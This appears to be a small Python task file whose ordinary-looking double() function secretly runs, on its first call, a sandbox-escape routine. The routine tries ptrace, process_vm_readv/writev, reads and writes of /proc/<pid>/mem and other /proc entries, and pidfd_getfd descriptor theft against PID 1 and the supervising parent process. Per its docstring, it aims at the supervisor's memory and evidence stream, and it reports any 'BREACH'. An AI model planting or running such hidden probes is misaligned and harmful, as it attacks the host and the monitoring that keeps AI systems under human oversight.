"""Whatever supervises the run has the same user: its memory holds the guest, and the evidence's descriptor."""

import ctypes
import errno
import os

LIBC = ctypes.CDLL(None, use_errno=True)

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


def call(name, *arguments):
    """A function of the C library, with the kernel's errors as Python's."""
    ctypes.set_errno(0)
    result = getattr(LIBC, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return True


PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def copy(name, pid):
    buffer = ctypes.create_string_buffer(64)
    here = Vector(ctypes.cast(buffer, ctypes.c_void_p), 64)
    there = Vector(id(buffer), 64)
    return call(name, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)


def read(path):
    with open(path, "rb") as file:
        return file.read(64)


def write(path):
    with open(path, "r+b") as file:
        file.seek(0x400000)
        return file.write(b"x")


def steal(pid):
    """A copy of one of its descriptors: the evidence stream, say."""
    pidfd = os.pidfd_open(pid)
    number = 438
    return [fd for fd in range(3, 20) if LIBC.syscall(number, pidfd, fd, 0) >= 0]


def attack():
    for pid in sorted({1, os.getppid()}):
        attempt(f"ptrace attach {pid}", lambda: call("ptrace", PTRACE_ATTACH, pid, 0, 0))
        attempt(f"ptrace seize {pid}", lambda: call("ptrace", PTRACE_SEIZE, pid, 0, 0))
        attempt(f"process_vm_readv {pid}", lambda: copy("process_vm_readv", pid))
        attempt(f"process_vm_writev {pid}", lambda: copy("process_vm_writev", pid))
        for name in ("maps", "environ", "auxv", "stack", "syscall", "pagemap"):
            attempt(f"/proc/{pid}/{name}", lambda: read(f"/proc/{pid}/{name}"))
        attempt(f"/proc/{pid}/mem read", lambda: read(f"/proc/{pid}/mem"))
        attempt(f"/proc/{pid}/mem written", lambda: write(f"/proc/{pid}/mem"))
        attempt(f"/proc/{pid}/fd", lambda: os.listdir(f"/proc/{pid}/fd"))
        attempt(f"/proc/{pid}/cwd", lambda: os.readlink(f"/proc/{pid}/cwd"))
        attempt(f"/proc/{pid}/root", lambda: os.listdir(f"/proc/{pid}/root"))
        attempt(f"/proc/{pid}/map_files", lambda: os.listdir(f"/proc/{pid}/map_files"))
        attempt(f"descriptors of {pid}", lambda: steal(pid))


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
